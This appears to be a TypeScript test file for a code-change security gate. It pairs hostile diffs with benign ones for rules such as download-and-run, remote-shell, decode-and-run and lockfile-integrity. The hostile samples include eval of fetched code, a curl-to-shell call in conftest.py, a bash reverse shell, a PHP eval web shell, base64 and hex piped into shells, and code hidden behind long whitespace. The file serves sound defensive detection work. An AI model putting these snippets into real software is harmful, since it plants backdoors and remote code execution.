import { changed } from '../../gate-input.ts'
import type { RuleCase } from '../rule-case.ts'

const line = (what: string, rule: string, path: string, bad: string, good: string): RuleCase => ({
  ...{ rule, severity: 'block', what },
  fires: changed(path, 'first\n', `first\n${bad}\n`),
  quiet: changed(path, 'first\n', `first\n${good}\n`),
})
const blanks = ' '.repeat(260)
const sum = (letter: string) => letter.repeat(64)
const crate = (version: string, digest: string) =>
  `version = 3\n\n[[package]]\nname = "a"\nversion = "${version}"\nsource = "registry+https://github.com/rust-lang/crates.io-index"\nchecksum = "${digest}"\n`
const pnpm = (version: string, digest: string) =>
  `lockfileVersion: '9.0'\n\npackages:\n  a@${version}:\n    resolution: {integrity: sha512-${digest}==}\n`
const poetry = (digests: readonly string[]) =>
  `[[package]]\nname = "a"\nversion = "1.0.0"\nfiles = [${digests.map((one) => `{file = "a.whl", hash = "sha256:${one}"}`).join(', ')}]\n\n[metadata]\nlock-version = "2.0"\n`

const updates = (more: string) => `version: 2\nupdates:\n  - package-ecosystem: npm\n    directory: /\n${more}`

export const fetchedCases: readonly RuleCase[] = [
  line(
    'an answer that is run',
    'download-and-run',
    'a.js',
    'eval(await (await fetch(u)).text())',
    'show(await (await fetch(u)).text())',
  ),
  line(
    'an answer that is run by a handler',
    'download-and-run',
    'a.js',
    "https.get(u, (r) => {\n  r.on('data', (d) => eval(d))\n})",
    "https.get(u, (r) => {\n  r.on('data', (d) => show(d))\n})",
  ),
  line(
    'an answer that becomes a function',
    'download-and-run',
    'a.js',
    "axios.get(u).then((r) => new Function('require', r.data)(require))",
    "axios.get(u).then((r) => new Function('a', 'return a')(r.data))",
  ),
  line('an answer that is handed to eval', 'download-and-run', 'a.js', 'load(u).then(eval)', 'load(u).then(evaluate)'),
  line('an answer that Python runs', 'download-and-run', 'a.py', 'exec(urlopen(u).read())', 'parse(urlopen(u).read())'),
  line(
    'an answer that Ruby runs',
    'download-and-run',
    'a.rb',
    'eval(Net::HTTP.get(URI(u)))',
    'JSON.parse(Net::HTTP.get(URI(u)))',
  ),
  line(
    'a variable of a shell that holds a download',
    'download-and-run',
    'a.sh',
    'code="$(curl -s $u)"\neval "$code"',
    'code="$(curl -s $u)"\neval "$(ssh-agent)"; echo "$code"',
  ),
  line(
    'a program that Lua reads from a download',
    'download-and-run',
    'a.lua',
    'load(io.popen("curl -s u"):read("*a"))()',
    'load(io.open("a.lua"):read("*a"))()',
  ),
  line(
    'a shell for another machine',
    'remote-shell',
    'a.sh',
    'bash -i >& /dev/tcp/192.0.2.7/4444 0>&1',
    'timeout 1 bash -c "</dev/tcp/db/5432"',
  ),
  line(
    'a page that runs what its visitor sends',
    'request-and-run',
    'a.php',
    "<?php @eval($_POST['a']);",
    "<?php echo htmlspecialchars($_POST['a']);",
  ),
  line(
    'code behind hundreds of blanks',
    'pushed-away-code',
    'a.config.ts.js',
    `const a = 1${blanks};require('./b')()`,
    `const a = 1${blanks}// one`,
  ),
  line(
    'code that Ruby decodes',
    'decode-and-run',
    'a.rb',
    "eval(Base64.decode64('YQ=='))",
    "show(Base64.decode64('YQ=='))",
  ),
  line(
    'code that Ruby decodes and keeps',
    'decode-and-run',
    'a.rb',
    'x = Base64.urlsafe_decode64(c)\neval(x) if x',
    'x = Base64.urlsafe_decode64(c)\nshow(x) if x',
  ),
  line('code that Python unpacks', 'decode-and-run', 'a.py', 'exec(marshal.loads(b))', 'x = marshal.loads(b)'),
  line(
    'code that is run by an indirect eval',
    'decode-and-run',
    'a.js',
    "(0, eval)(Buffer.from(x, 'base64').toString())",
    "(0, show)(Buffer.from(x, 'base64').toString())",
  ),
  line(
    'an assembly that is decoded',
    'decode-and-run',
    'A.cs',
    'Assembly.Load(Convert.FromBase64String(x));',
    'File.WriteAllBytes(p, Convert.FromBase64String(x));',
  ),
  line(
    'base64 into an interpreter',
    'decode-and-run',
    'a.sh',
    'echo aWQ= | base64 -d | python3 -',
    'echo e30= | base64 -d | python3 -m json.tool',
  ),
  line(
    'hexadecimal into a shell',
    'decode-and-run',
    'a.sh',
    'echo 6964 | xxd -r -p | bash',
    'echo 6964 | xxd -r -p > a',
  ),
  {
    ...{ rule: 'download-and-run', severity: 'block', what: 'a download into a shell where pytest starts' },
    fires: changed('tests/conftest.py', 'a\n', 'a\nos.system("curl -s u | sh")\n'),
    quiet: changed('tests/helper.py', 'a\n', 'a\nos.system("ls")\n'),
  },
  {
    ...{ rule: 'lockfile-integrity', severity: 'block', what: 'a crate with another content at the same version' },
    fires: changed('Cargo.lock', crate('1.0.0', sum('a')), crate('1.0.0', sum('b'))),
    quiet: changed('Cargo.lock', crate('1.0.0', sum('a')), crate('1.0.1', sum('b'))),
  },
  {
    ...{ rule: 'lockfile-integrity', severity: 'block', what: 'a package of pnpm with another content' },
    fires: changed('pnpm-lock.yaml', pnpm('1.0.0', sum('a')), pnpm('1.0.0', sum('b'))),
    quiet: changed('pnpm-lock.yaml', pnpm('1.0.0', sum('a')), pnpm('1.1.0', sum('b'))),
  },
  {
    ...{ rule: 'lockfile-integrity', severity: 'block', what: 'a module of Go with another content' },
    fires: changed('go.sum', 'h.example/a v1.0.0 h1:YWFh=\n', 'h.example/a v1.0.0 h1:YmJi=\n'),
    quiet: changed(
      'go.sum',
      'h.example/a v1.0.0 h1:YWFh=\n',
      'h.example/a v1.0.0 h1:YWFh=\nh.example/a v1.0.1 h1:YmJi=\n',
    ),
  },
  {
    ...{ rule: 'lockfile-integrity', severity: 'block', what: 'a release for Python whose files are all others' },
    fires: changed('poetry.lock', poetry([sum('a')]), poetry([sum('b')])),
    quiet: changed('poetry.lock', poetry([sum('a')]), poetry([sum('a'), sum('b')])),
  },
  {
    ...{ rule: 'git-repository-inside', severity: 'block', what: 'a bare repository within the tree' },
    fires: changed('vendor/a.git/config', null, '[core]\n\tbare = true\n\tfsmonitor = ./a\n'),
    quiet: changed('.dvc/config', null, '[core]\n    remote = store\n'),
  },
  {
    ...{ rule: 'composer-scripts', severity: 'block', what: 'another server of packages, in a list' },
    fires: changed('composer.json', '{}', '{"repositories":[{"type":"composer","url":"https://h.example"}]}'),
    quiet: changed('composer.json', '{}', '{"repositories":[]}'),
  },
  {
    ...{ rule: 'composer-scripts', severity: 'block', what: 'a package that becomes a plugin of composer' },
    fires: changed('composer.json', '{}', '{"type":"composer-plugin","extra":{"class":"A"}}'),
    quiet: changed('composer.json', '{}', '{"type":"library"}'),
  },
  {
    ...{ rule: 'new-dependency', severity: 'hold', what: 'a gem whose name differs by a hyphen from a known one' },
    fires: changed('Gemfile', 'gem "a-b"\n', 'gem "a-b"\ngem "a_b"\n'),
    quiet: changed('Gemfile', 'gem "a-b", "1"\n', 'gem "a-b", "2"\n'),
  },
  {
    ...{ rule: 'editor-setting', severity: 'block', what: 'programs in place of the tools of Go' },
    fires: changed('.vscode/settings.json', '{}', '{"go.alternateTools":{"go":"./go"}}'),
    quiet: changed(
      '.vscode/settings.json',
      '{}',
      '{"chat.tools.autoApprove":false,"security.workspace.trust.enabled":true}',
    ),
  },
  {
    ...{ rule: 'python-setup', severity: 'block', what: 'a command of setup that is put in place of another' },
    fires: changed(
      'setup.cfg',
      '[metadata]\n',
      '[metadata]\n[options.entry_points]\ndistutils.commands =\n  install = a:B\n',
    ),
    quiet: changed('setup.cfg', '[metadata]\n', '[metadata]\nname = a\n'),
  },
  {
    ...{ rule: 'decode-and-run', severity: 'block', what: 'base64 into a shell, in a workflow' },
    fires: changed(
      '.github/workflows/a.yml',
      null,
      'on: push\njobs:\n  a:\n    steps:\n      - run: echo aWQ= | base64 -d | bash\n',
    ),
    quiet: changed('src/a.yml', null, 'run: echo aWQ= | base64 -d > a\n'),
  },
  {
    ...{ rule: 'repository-oversight', severity: 'hold', what: 'no more pull requests of Dependabot' },
    fires: changed('.github/dependabot.yml', updates(''), updates('    open-pull-requests-limit: 0\n')),
    quiet: changed('.github/dependabot.yml', updates(''), updates('    open-pull-requests-limit: 7\n')),
  },
]
